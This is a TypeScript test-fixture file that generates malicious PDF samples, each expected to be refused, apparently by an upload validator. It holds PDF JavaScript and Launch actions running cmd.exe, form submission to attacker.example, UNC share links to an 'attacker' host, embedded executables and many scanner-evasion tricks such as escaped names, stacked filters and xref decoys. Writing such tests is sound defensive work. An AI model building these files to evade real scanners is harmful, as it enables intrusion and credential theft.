import { deflateSync } from 'node:zlib'
import { refused, type FileSample } from './FileSample.ts'
import { ascii85, hex, lzw, runLength } from './pdfCodings.ts'
import { objectStream, pdfFile, pdfWithReferenceStream, plainPage, stream, text, updated } from './pdfFile.ts'

const script = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>'

const opening = (action: string) => pdfFile(plainPage({ catalogue: `/OpenAction ${action}` }))
const pressing = (action: string) => {
  const link = `<< /Type /Annot /Subtype /Link /Rect [0 0 600 800] /A ${action} >>`
  return pdfFile(plainPage({ page: `/Annots [${link}]` }))
}
const inCatalogue = (catalogue: string, more: Record<number, string | Buffer> = {}) => {
  return pdfFile({ ...plainPage({ catalogue }), ...more })
}
/** Hides the script in an object stream, encoded by these filters. The catalogue is not encoded. */
const hidden = (filter: string, encode: (bytes: Buffer) => Buffer) => {
  const inside = { 6: script }
  return pdfWithReferenceStream(
    plainPage({ catalogue: '/OpenAction 6 0 R' }),
    inside,
    objectStream(inside, filter, encode),
  )
}

const scripts: FileSample[] = [
  refused('a PDF that runs a script when it opens', 'a.pdf', () => opening(script)),
  refused('a PDF that escapes letters in the name of the script action', 'a.pdf', () =>
    opening('<< /S /J#61vaScript /#4AS (app.alert\\(1\\)) >>'),
  ),
  refused('a PDF that escapes letters in every key of the script action', 'a.pdf', () =>
    opening('<< /#53 /#4a#61#76#61#53#63#72#69#70#74 /J#53 (x) >>'),
  ),
  refused('a PDF with a comment between key and action', 'a.pdf', () =>
    opening('<< /S%\n/JavaScript%\n/JS%()\n(app.alert\\(1\\)) >>'),
  ),
  refused('a PDF whose script is among its names', 'a.pdf', () =>
    inCatalogue(`/Names << /JavaScript << /Names [(a) ${script}] >> >>`),
  ),
  refused('a PDF whose script is the content of a stream', 'a.pdf', () =>
    inCatalogue('/OpenAction << /S /JavaScript /JS 6 0 R >>', {
      6: stream('/Filter /FlateDecode', deflateSync(text('app.alert(1)'))),
    }),
  ),
  refused('a PDF whose script is in an object stream', 'a.pdf', () => hidden('/FlateDecode', deflateSync)),
  refused('a PDF whose script is encoded by two filters', 'a.pdf', () =>
    hidden('[/ASCIIHexDecode /FlateDecode]', (bytes) => hex(deflateSync(bytes))),
  ),
  refused('a PDF whose script is encoded in base 85 and run lengths', 'a.pdf', () =>
    hidden('[/ASCII85Decode /RunLengthDecode]', (bytes) => ascii85(runLength(bytes))),
  ),
  refused('a PDF whose script is encoded in LZW', 'a.pdf', () => hidden('/LZWDecode', lzw)),
  refused('a PDF whose filter has a short name', 'a.pdf', () => hidden('/Fl', deflateSync)),
  refused('a PDF whose filter has an escaped name', 'a.pdf', () => hidden('/Flate#44ecode', deflateSync)),
  refused('a PDF whose catalogue is in an object stream', 'a.pdf', () => {
    const { 4: content, ...rest } = plainPage({ catalogue: `/OpenAction ${script}` })
    const inside = rest as Record<number, string>
    return pdfWithReferenceStream({ 4: content! }, inside, objectStream(inside))
  }),
  refused('a PDF with an incremental update that adds a script', 'a.pdf', () =>
    updated(pdfFile(plainPage()), { 1: `<< /Type /Catalog /Pages 2 0 R /OpenAction ${script} >>` }),
  ),
  refused('a PDF whose table points to the other of two objects with one number', 'a.pdf', () => {
    const acting = opening(script)
    const end = acting.lastIndexOf('xref\n0 ')
    const decoy = text('1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n')
    const tail = acting
      .subarray(end)
      .toString('latin1')
      .replace(/startxref\n\d+/, `startxref\n${end + decoy.length}`)
    return Buffer.concat([acting.subarray(0, end), decoy, text(tail)])
  }),
  refused('a PDF with a script and a wrong offset of its table', 'a.pdf', () =>
    pdfFile(plainPage({ catalogue: `/OpenAction ${script}` }), { startxref: 3 }),
  ),
  refused('a PDF whose link runs a script after it opens a site', 'a.pdf', () =>
    pressing(`<< /S /URI /URI (https://example.com/) /Next [${script}] >>`),
  ),
  refused('a PDF with a link to a script', 'a.pdf', () => pressing('<< /S /URI /URI (javascript:alert\\(1\\)) >>')),
  refused('a PDF whose form field calculates by script', 'a.pdf', () =>
    inCatalogue('/AcroForm << /Fields [6 0 R] >>', {
      6: `<< /FT /Tx /T (a) /Subtype /Widget /Rect [0 0 1 1] /AA << /C ${script} >> >>`,
    }),
  ),
]

const actions: FileSample[] = [
  refused('a PDF that starts a program by a link', 'a.pdf', () => pressing('<< /S /Launch /F (cmd.exe) >>')),
  refused('a PDF that starts a program when it opens', 'a.pdf', () =>
    opening('<< /S /L#61unch /Win << /F (cmd.exe) /P (/c calc) >> >>'),
  ),
  refused('a PDF that starts a program when a page opens', 'a.pdf', () =>
    pdfFile(plainPage({ page: '/AA << /O << /S /Launch /F (cmd.exe) >> >>' })),
  ),
  refused('a PDF that sends a form', 'a.pdf', () =>
    pressing('<< /S /SubmitForm /F (https://attacker.example/) /Flags 4 >>'),
  ),
  refused('a PDF that reads a form from a file', 'a.pdf', () =>
    pressing('<< /S /ImportData /F (\\\\\\\\attacker\\\\share\\\\a.fdf) >>'),
  ),
  refused('a PDF that opens a file on another machine', 'a.pdf', () =>
    opening('<< /S /GoToR /F (\\\\\\\\attacker\\\\share\\\\a.pdf) /D [0 /Fit] >>'),
  ),
  refused('a PDF that opens a file embedded in it', 'a.pdf', () =>
    opening('<< /S /GoToE /T << /R /C /N (a.pdf) >> /D [0 /Fit] >>'),
  ),
  refused('a PDF that plays a film by script', 'a.pdf', () =>
    pressing('<< /S /Rendition /OP 0 /JS (app.alert\\(1\\)) >>'),
  ),
]

const relative = (catalogue: string, more: Record<number, string> = {}) =>
  pdfFile({
    ...plainPage({
      catalogue,
      page: '/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 600 800] /A << /S /URI /URI (a.exe) >> >>]',
    }),
    ...more,
  })

const bases: FileSample[] = [
  refused('a PDF whose links resolve to a share', 'a.pdf', () => relative('/URI << /Base (file://attacker/share/) >>')),
  refused('a PDF whose links resolve to a share with a Windows name', 'a.pdf', () =>
    relative('/URI << /Base (\\\\\\\\attacker\\\\share\\\\) >>'),
  ),
  refused('a PDF whose links resolve to a host without a scheme', 'a.pdf', () =>
    relative('/URI << /Base (//attacker/share/) >>'),
  ),
  refused('a PDF whose links resolve to a host after slashes of both kinds', 'a.pdf', () =>
    relative('/URI << /Base (/\\\\attacker/share/) >>'),
  ),
  refused('a PDF whose links resolve to a share that is named in separate objects', 'a.pdf', () =>
    relative('/URI 6 0 R', { 6: '<< /B#61se 7 0 R >>', 7: '(file://attacker/share/)' }),
  ),
  refused('a PDF whose links resolve to a script', 'a.pdf', () => relative('/URI << /Base (javascript:) >>')),
]

const contents: FileSample[] = [
  refused('a PDF with an embedded file', 'a.pdf', () =>
    inCatalogue('/Names << /EmbeddedFiles << /Names [(a.exe) 6 0 R] >> >>', {
      6: '<< /Type /Filespec /F (a.exe) /EF << /F 7 0 R >> >>',
      7: stream('/Type /EmbeddedFile', text('MZ\x90\0')),
    }),
  ),
  refused('a PDF with a file in an annotation', 'a.pdf', () =>
    pdfFile({
      ...plainPage({ page: '/Annots [<< /Subtype /FileAttachment /Rect [0 0 9 9] /FS 6 0 R >>]' }),
      6: '<< /Type /Filespec /F (a.exe) /EF << /F 7 0 R >> >>',
      7: stream('', text('MZ\x90\0')),
    }),
  ),
  refused('a PDF with rich media', 'a.pdf', () =>
    pdfFile(plainPage({ page: '/Annots [<< /Subtype /RichMedia /Rect [0 0 9 9] /RichMediaContent << >> >>]' })),
  ),
  refused('a PDF with an XML form', 'a.pdf', () =>
    inCatalogue('/AcroForm << /Fields [] /XFA 6 0 R >>', {
      6: stream('/Filter /FlateDecode', deflateSync(text('<xdp:xdp/>'))),
    }),
  ),
  refused('a PDF whose content is in another file', 'a.pdf', () =>
    pdfFile({ ...plainPage(), 4: stream('/F (\\\\\\\\attacker\\\\share\\\\a) /FFilter /FlateDecode', text('')) }),
  ),
  refused('a PDF that is encrypted', 'a.pdf', () =>
    pdfFile(plainPage(), {
      trailer: `/Encrypt << /Filter /Standard /V 1 /R 2 /P -4 /O <${'41'.repeat(32)}> /U <${'42'.repeat(32)}> >> /ID [<00> <00>]`,
    }),
  ),
]

export const actingPdfs: FileSample[] = [...scripts, ...actions, ...bases, ...contents]
